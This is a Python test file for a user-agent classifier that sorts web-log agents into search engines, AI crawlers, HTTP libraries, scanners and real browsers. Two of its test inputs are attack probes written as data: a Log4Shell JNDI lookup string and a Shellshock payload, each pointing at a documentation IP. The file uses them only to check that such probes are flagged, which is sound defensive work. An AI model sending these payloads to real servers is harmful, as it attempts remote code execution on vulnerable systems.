from __future__ import annotations

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA  # type: ignore[import-untyped]
from hypothesis import given
from hypothesis import strategies as st

from ingest.enrich.bots import CLASSES, NO_AGENT, PERSONS, TAGS, find_bot, own_bots
from ingest.enrich.rules import BotRule, Rules

NONE = Rules()


def told(agent: str, rules: Rules = NONE) -> tuple[str, str, str] | None:
    bot = find_bot(agent, rules)
    return (bot.name, bot.bot_class, bot.reason) if bot else None


@pytest.mark.parametrize(
    ("agent", "name", "bot_class", "reason"),
    [
        ("Googlebot/2.1 (+http://www.google.com/bot.html)", "Googlebot", "search", "list:Googlebot"),
        (
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "bingbot",
            "search",
            "list:bingbot",
        ),
        ("Googlebot-Image/1.0", "Googlebot-Image", "search", "list:Googlebot-Image"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http", "Googlebot", "search", "list:Googlebot"),
        ("Mozilla/5.0 (compatible; Goo", None, None, None),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "GPTBot",
            "ai-crawler",
            "list:GPTBot",
        ),
        (
            "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
            "ClaudeBot",
            "ai-crawler",
            "list:ClaudeBot",
        ),
        (
            "Mozilla/5.0 (compatible; ChatGPT-User/1.0; +https://openai.com/bot)",
            "ChatGPT-User",
            "ai-assistant",
            "list:ChatGPT-User",
        ),
        (
            "Mozilla/5.0 (compatible; Claude-User/1.0; +Claude-User@anthropic.com)",
            "Claude-User",
            "ai-assistant",
            "list:Claude-User",
        ),
        (
            "Mozilla/5.0 (compatible; Perplexity-User/1.0)",
            "Perplexity-User",
            "ai-assistant",
            "list:Perplexity-User",
        ),
        ("Mozilla/5.0 (compatible; OAI-SearchBot/1.0)", "OAI-SearchBot", "ai-search", "list:OAI-SearchBot"),
        (
            "Mozilla/5.0 (compatible; Claude-SearchBot/1.0)",
            "Claude-SearchBot",
            "ai-search",
            "list:Claude-SearchBot",
        ),
        ("Mozilla/5.0 (compatible; PerplexityBot/1.0)", "PerplexityBot", "ai-search", "list:PerplexityBot"),
        ("CCBot/2.0 (https://commoncrawl.org/faq/)", "CCBot", "ai-crawler", "list:CCBot"),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0)", "AhrefsBot", "seo", "list:AhrefsBot"),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0)", "UptimeRobot", "monitoring", "list:UptimeRobot"),
        ("facebookexternalhit/1.1", "Facebook", "preview", "list:facebookexternalhit"),
        ("WhatsApp/2.23.20.0", "WhatsApp", "preview", "list:WhatsApp"),
        ("Feedbin feed-id:1 - 5 subscribers", "Feedbin", "feed", "list:Feedbin"),
        ("curl/8.5.0", "curl", "library", "library:curl/"),
        ("Wget/1.21.3", "Wget", "library", "library:Wget"),
        ("python-requests/2.31.0", "python-requests", "library", "library:python-requests"),
        ("Go-http-client/2.0", "Go-http-client", "library", "library:Go-http-client"),
        ("Java/1.8.0_151", "Java", "library", "library:Java/"),
        ("okhttp/4.12.0", "OkHttp", "library", "library:okhttp"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/119.0 Safari/537.36",
            "Headless Chrome",
            "headless",
            "list:HeadlessChrome",
        ),
        ("Mozilla/5.0 zgrab/0.x", "ZGrab", "scanner", "list:zgrab"),
        ("sqlmap/1.7#stable", "sqlmap", "scanner", "list:sqlmap"),
        ("${jndi:ldap://192.0.2.1/a}", "Log4Shell probe", "scanner", "list:${jndi"),
        ("() { :; }; /bin/ping 192.0.2.1", "Shellshock probe", "scanner", "list:() {"),
        ("Mozilla/5.0 (compatible; archive.org_bot)", "archive.org_bot", "archiver", "list:archive.org_bot"),
        (
            "AdsBot-Google (+http://www.google.com/adsbot.html)",
            "AdsBot-Google",
            "advertising",
            "list:AdsBot-Google",
        ),
        ("Mozilla/5.0 (compatible; Seekport Crawler)", "Seekport", "search", "list:Seekport"),
        ("ExampleBot/1.0", "ExampleBot", "other", "word:ExampleBot"),
        ("Mozilla/5.0 (compatible; example-crawler/0.1)", "example-crawler", "other", "word:example-crawler"),
        ("Example/0.1 (+https://www.example.com/about)", "Example", "other", "contact"),
        ("Mozilla/5.0 (Example; anna@example.com)", "Example", "other", "contact"),
        ("", NO_AGENT, "unknown", NO_AGENT),
        ("-", NO_AGENT, "unknown", NO_AGENT),
        (" ", NO_AGENT, "unknown", NO_AGENT),
    ],
)
def test_bots_have_name_class_and_reason(
    agent: str, name: str | None, bot_class: str | None, reason: str | None
) -> None:
    assert told(agent) == ((name, bot_class, reason) if name else None)


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 Chrome/96.0.4664.104 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 5.1; CUBOT_NOTE_S Build/LMY47I) AppleWebKit/537.36 Chrome/43 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; CUBOT) AppleWebKit/537.36 Chrome/96 Mobile Safari/537.36",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Yahoo! Toolbar; search; feed; host; GTB7.5)",
        "Mozilla/5.0 (Linux; Android 7.0; Panasonic P91 Build/X) AppleWebKit/537.36 Chrome/63 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 7.0; PanaSonic P91) AppleWebKit/537.36 Chrome/63 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 12; SM-G998BW/DS) AppleWebKit/537.36 Chrome/105 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) Mobile Safari/604.1 NAVER(inapp; search; 1010)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) Mobile/15E148 Instagram 289.0.0.18.109 (iPhone14,5)",
        "Mozilla/5.0 (Linux; Android 13; SM-S901B) Version/4.0 Chrome/113.0 Mobile Safari/537.36 [Pinterest/Android]",
        "Mozilla/5.0 (Linux; Android 11; KFTRWI) AppleWebKit/537.36 Silk/110.4 like Chrome/110 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Slack/4.29.149 Chrome/108.0 Electron/22 Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) Chrome/57 YaBrowser/17.4.1.1026 Yowser/2.5 Safari/537.36",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_6) AppleWebKit/528.16 Fluid/0.9.6 Safari/528.1",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d",
        "Amazon CloudFront",
        "Mozilla/5.0",
    ],
)
def test_persons_are_no_bots(agent: str) -> None:
    assert told(agent) is None


def test_a_users_rules_go_before_all_lists() -> None:
    rule = BotRule("(?i)^acme-", "Acme", "monitoring", "^acme-")
    rules = Rules(bots=(rule,), not_bots=("(?i)ExampleBot",))
    assert told("ACME-check Googlebot/2.1", rules) == ("Acme", "monitoring", "rule:^acme-")
    assert told("ExampleBot/1.0 curl/8", rules) is None
    assert told("Googlebot/2.1", rules) == ("Googlebot", "search", "list:Googlebot")


def test_the_maintained_list_is_recognised_by_its_own_examples() -> None:
    missed = [
        (entry["pattern"], agent)
        for entry in CRAWLER_USER_AGENTS_DATA
        for agent in entry.get("instances", ())
        if find_bot(agent, NONE) is None and entry["pattern"] not in PERSONS
    ]
    assert missed == []


def test_every_tag_of_the_maintained_list_has_a_class() -> None:
    assert {tag for entry in CRAWLER_USER_AGENTS_DATA for tag in entry.get("tags", ())} <= TAGS.keys()
    assert set(TAGS.values()) <= set(CLASSES)


def test_every_pattern_that_persons_have_is_still_on_the_list() -> None:
    assert {entry["pattern"] for entry in CRAWLER_USER_AGENTS_DATA} >= PERSONS


@pytest.mark.parametrize(("token", "name", "bot_class"), own_bots())
def test_every_token_of_our_table_tells_its_bot(token: str, name: str, bot_class: str) -> None:
    bot = find_bot(f"{token.removeprefix('^')} 1.0", NONE)
    assert bot is not None
    assert (bot.name, bot.bot_class) == (name, bot_class)
    assert bot_class in CLASSES


@given(st.text())
def test_any_text_is_told(agent: str) -> None:
    bot = find_bot(agent, NONE)
    assert bot is None or (bot.name and bot.reason and bot.bot_class in CLASSES)
